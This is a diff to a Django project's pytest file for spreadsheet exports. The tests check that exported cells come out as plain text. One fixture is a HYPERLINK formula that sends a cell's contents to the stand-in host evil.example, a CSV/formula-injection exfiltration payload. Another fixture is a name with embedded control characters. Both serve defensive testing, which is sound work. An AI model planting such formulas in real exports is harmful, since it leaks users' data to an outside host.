@@ -8,13 +8,13 @@ import zipfile
 import openpyxl
 import pytest
 from django.urls import reverse
+from openpyxl.worksheet.worksheet import Worksheet
 
 from opora.consultations.services import journal_workbook
 from opora.core.exports import write_row
 from opora.scheduling.calendar import local_now
 from opora.scheduling.services import handoff_workbook
 from opora.scheduling.tests.factories import make_request
-from opora.web.registries import registry_workbook
 
 FORMULA = '=HYPERLINK("http://evil.example/?d="&D2,"Открыть")'
 BELL_NAME = "Иванова\x07 Анна\x1b Петровна"
@@ -40,7 +40,9 @@ def _assert_plain(data: bytes) -> None:
 
 def test_write_row_keeps_numbers_and_dates_and_makes_text_plain():
     wb = openpyxl.Workbook()
-    write_row(wb.active, [7, 2.5, None, "+7 701 000 00 00", "-", "@me", "обычный\tтекст\nстрока"])
+    sheet = wb.active
+    assert isinstance(sheet, Worksheet)
+    write_row(sheet, [7, 2.5, None, "+7 701 000 00 00", "-", "@me", "обычный\tтекст\nстрока"])
     out = io.BytesIO()
     wb.save(out)
     (row,) = _cells(out.getvalue())
@@ -71,7 +73,25 @@ def test_journal_export_writes_plain_text():
 
 
 def test_registry_export_writes_plain_text():
-    data = registry_workbook(registry="requests", rows=[[1, "05.12.2026", FORMULA, BELL_NAME]])
+    import datetime as dt
+    from types import SimpleNamespace
+
+    from opora.journals.catalogue import REQUESTS_002
+    from opora.journals.documents import write_xlsx
+    from opora.journals.selectors import Journal
+
+    journal = Journal(
+        form=REQUESTS_002,
+        service=SimpleNamespace(name="Служба", code="s"),
+        date_from=dt.date(2026, 12, 1),
+        date_to=dt.date(2026, 12, 5),
+        coded=False,
+        count=1,
+        rows=iter([[1, "05.12.2026", FORMULA, BELL_NAME]]),
+    )
+    out = io.BytesIO()
+    write_xlsx(journal, out)
+    data = out.getvalue()
     _assert_plain(data)
     assert _cells(data)[2][3].value == "Иванова Анна Петровна"
 
